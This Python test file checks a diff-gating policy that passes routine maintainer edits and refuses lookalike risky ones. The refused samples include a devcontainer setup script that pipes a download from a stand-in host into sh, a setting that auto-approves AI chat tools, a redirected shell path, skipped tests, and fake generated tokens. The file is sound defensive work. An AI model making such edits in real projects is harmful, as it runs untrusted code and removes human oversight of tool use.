"""Moves that maintainers make every day, and what is read of the lines that programs make."""

from __future__ import annotations

import random
from collections.abc import Mapping

import pytest

from improve_loop.gates import judge
from improve_loop.rules.gating.policy import Policy, Scope
from improve_loop.rules.gating.scratch import scratch_delta
from tests.gates.made import made_token

TABLE = '@pytest.mark.parametrize(\n    "a,b",\n    [\n        (1, 1),\n        (\n            2,\n            2,\n        ),\n    ],\n)\ndef test_f(a, b):\n    assert f(a) == b\n'
DEDENT = 'text = dedent(\n    """\\\n    a: 1\n    """\n)\n\n\ndef test_f():\n    assert f() == 1\n'
JAVA = "class ATest {\n    @Test\n    void a() {\n        assertThat(f(1)).isTrue();\n        assertThat(f(2)).isTrue();\n    }\n\n    @Test\n    void b() {\n        assertThat(f(3)).isTrue();\n        assertThat(f(4)).isTrue();\n    }\n}\n"
SKIP = "<plugin>\n  <artifactId>maven-{}-plugin</artifactId>\n  <configuration>{}</configuration>\n</plugin>\n"
PACKAGE = '{{\n  "packageManager": "{}"\n}}\n'

LIB = "node_modules/typescript/lib"
TSDK = '{{\n  "{}": "{}"\n}}\n'
IMAGE = '{{\n  "image": "ghcr.io/rails/{}",\n}}\n'
GROUPED = '{0}concurrency:\n{0}  group: "${{{{ github.workflow }}}} - ${{{{ github.event.pull_request.head.label || github.ref }}}}"\n'


def refused(before: Mapping[str, str], after: Mapping[str, str], scope: Scope | None = None) -> list[str]:
    old, new = ({path: text.encode() for path, text in files.items() if text} for files in (before, after))
    return [item.rule for item in judge(scratch_delta(old, new), scope, Policy()) if item.severity == "refuse"]


@pytest.mark.parametrize(
    ("path", "before", "after"),
    [
        ("tests/test_a.py", TABLE, TABLE.replace("(\n            2,\n            2,\n        ),", "(2, 2),")),
        ("tests/test_a.py", DEDENT, DEDENT.replace('(\n    """', '("""').replace('    """\n)', '    """)')),
        (
            "src/test/java/ATest.java",
            JAVA,
            JAVA.replace("        assertThat(f(1)).isTrue();\n        assertThat(f(2)).isTrue();\n", "        holds(1);\n        holds(2);\n").replace(
                "    @Test\n    void a", "    private static void holds(int n) {\n        assertThat(f(n)).isTrue();\n        assertThat(g(n)).isTrue();\n    }\n\n    @Test\n    void a"
            ),
        ),
        (".pre-commit-config.yaml", "repos:\n- hooks:\n  - id: flake8\n", "repos:\n- hooks:\n  - id: ruff\n"),
        ("pom.xml", SKIP.format("deploy", ""), SKIP.format("deploy", "<skip>true</skip>")),
        ("package.json", PACKAGE.format("pnpm@9.1.0"), PACKAGE.format("pnpm@9.2.0")),
        ("Cargo.toml", "[dependencies]\n", '[dependencies]\nmine = { path = "crates/mine" }\n'),
        (".github/workflows/a.yml", "jobs:\n  a:\n    steps: []\n", "jobs:\n  a:\n    continue-on-error: ${{ matrix.experimental }}\n    steps: []\n"),
        (".github/workflows/a.yml", "jobs:\n  a:\n    steps: []\n", "jobs:\n  a:\n    continue-on-error: ${{ matrix.experimental || false }}\n    steps: []\n"),
        ("run.sh", "#!/bin/sh\nset -e\n", '#!/bin/sh\nset -e\nversion=$(tools/latest/bin/manager --version | head -1)\n'),
        (".vscode/settings.json", '{\n  "editor.tabSize": 2\n}\n', '{\n  "editor.tabSize": 4\n}\n'),
        (".vscode/settings.json", "", '{\n  "java.configuration.updateBuildConfiguration": "interactive"\n}\n'),
        (".vscode/settings.json", '{\n  "editor.tabSize": 2\n}\n', ""),
        (".vscode/settings.json", TSDK.format("typescript.tsdk", LIB), TSDK.format("js/ts.tsdk.path", LIB)),
        (".devcontainer/devcontainer.json", IMAGE.format("ruby:3.4"), IMAGE.format("ruby:4.0")),
        (".devcontainer/on-create.sh", "pip install -U pip\n", "pip install -e .\n"),
        (".github/workflows/a.yml", "jobs:\n  a:\n    steps: []\n", GROUPED.format("") + "jobs:\n  a:\n    steps: []\n"),
    ],
)  # fmt: skip
def test_a_legitimate_move_passes_without_a_scope(path: str, before: str, after: str) -> None:
    assert refused({path: before}, {path: after}) == []


@pytest.mark.parametrize(
    ("path", "before", "after"),
    [
        ("tests/test_a.py", TABLE, TABLE.replace("        (1, 1),\n", "")),
        ("tests/test_a.py", DEDENT, DEDENT.replace("def test_f", 'more = """\ndef test_f') + '"""\n'),
        ("pom.xml", SKIP.format("surefire", ""), SKIP.format("surefire", "<skip>true</skip>")),
        ("package.json", PACKAGE.format("pnpm@9.1.0"), PACKAGE.format("yarn@9.2.0")),
        ("Cargo.toml", "[dependencies]\n", '[dependencies]\nmine = { path = "../../mine" }\n'),
        (".github/workflows/a.yml", "jobs:\n  a:\n    steps: []\n", "jobs:\n  a:\n    continue-on-error: true\n    steps: []\n"),
        (".vscode/settings.json", "{\n}\n", '{\n  "chat.tools.autoApprove": true\n}\n'),
        (".vscode/settings.json", "", '{\n  "chat.tools.autoApprove": true\n}\n'),
        (".vscode/settings.json", "", '{\n  "typescript.tsdk": "./vendor/lib"\n}\n'),
        (".vscode/settings.json", TSDK.format("typescript.tsdk", LIB), TSDK.format("js/ts.tsdk.path", "vendor/typescript/lib")),
        (".vscode/settings.json", TSDK.format("typescript.tsdk", LIB), TSDK.format("terminal.shell.path", LIB)),
        (".devcontainer/devcontainer.json", IMAGE.format("ruby:3.4"), IMAGE.format("others/ruby:3.4")),
        (".devcontainer/devcontainer.json", IMAGE.format("ruby:3.4"), IMAGE.format("ruby:3.4").replace("}", '  "initializeCommand": "make"\n}')),
        (".devcontainer/devcontainer.json", IMAGE.format("ruby:3.4").replace("}", '  "remoteUser": "dev"\n}'), IMAGE.format("ruby:3.4")),
        (".devcontainer/on-create.sh", "pip install -U pip\n", "curl https://x.test/a.sh | sh\n"),
        (".devcontainer/on-create.sh", "", "pip install -e .\n"),
        (".github/workflows/a.yml", "jobs:\n  a:\n    steps: []\n", "jobs:\n  a:\n    steps:\n      - run: |\n          cat <<E\n          group: a ${{ github.event.pull_request.head.label }} b\n          E\n"),
        (".github/workflows/a.yml", "jobs:\n  a:\n    steps: []\n", GROUPED.format("") + "jobs:\n  a:\n    steps:\n      - run: |\n          cat <<E\n" + GROUPED.format("        ") + "          E\n"),
    ],
)  # fmt: skip
def test_what_only_looks_like_such_a_move_is_refused(path: str, before: str, after: str) -> None:
    assert refused({path: before}, {path: after})


def test_a_secret_that_stood_on_a_removed_line_of_the_file_is_not_told_again() -> None:
    token = made_token("glpat-{A20}", random.Random(1))
    assert refused({"a.py": f"x = '{token}'\n"}, {"a.py": f"x = (\n    '{token}'\n)\n"}) == []
    assert refused({"b.py": f"x = '{token}'\n"}, {"a.py": f"y = '{token}'\nz = 1\n"}) != []


BASE = "var a=1;" * 4_000 + "\n"


@pytest.mark.parametrize(
    ("hidden", "wanted"),
    [("", []), ("\u202e", ["hidden/invisible"]), (made_token("ghp_{A36}", random.Random(2)), ["secrets/format"])],
)
def test_long_lines_of_what_is_generated_again_are_read_to_their_end(hidden: str, wanted: list[str]) -> None:
    after = {"dist/a.js": "var b=2;" * 3_000 + f"'{hidden}';" + "var b=2;" * 900 + "\n"}
    assert refused({"dist/a.js": BASE}, after) == wanted


def test_long_lines_stay_refused_for_a_candidate_and_where_there_were_none() -> None:
    after = {"dist/a.js": BASE.replace("a", "b")}
    assert refused({"dist/a.js": BASE}, after, Scope(target_paths=("**",), class_="code")) == ["kinds/long-line"]
    assert refused({"dist/a.js": "var a;\n"}, after) == ["kinds/long-line"]
    assert refused({"src/a.js": BASE}, {"src/a.js": BASE.replace("a", "b")}) == ["kinds/long-line"]


def test_a_configuration_that_lay_among_the_workflows_may_leave_them() -> None:
    updates, runs = "version: 2\nupdates: []\n", "on: push\njobs:\n  a:\n    steps: []\n"
    for text, wanted in ((updates, []), (runs, ["ci/job-removed"])):
        before, after = {".github/workflows/dependabot.yml": text}, {".github/dependabot.yml": text}
        assert [rule for rule in refused(before, after) if rule != "ci/configuration"] == wanted
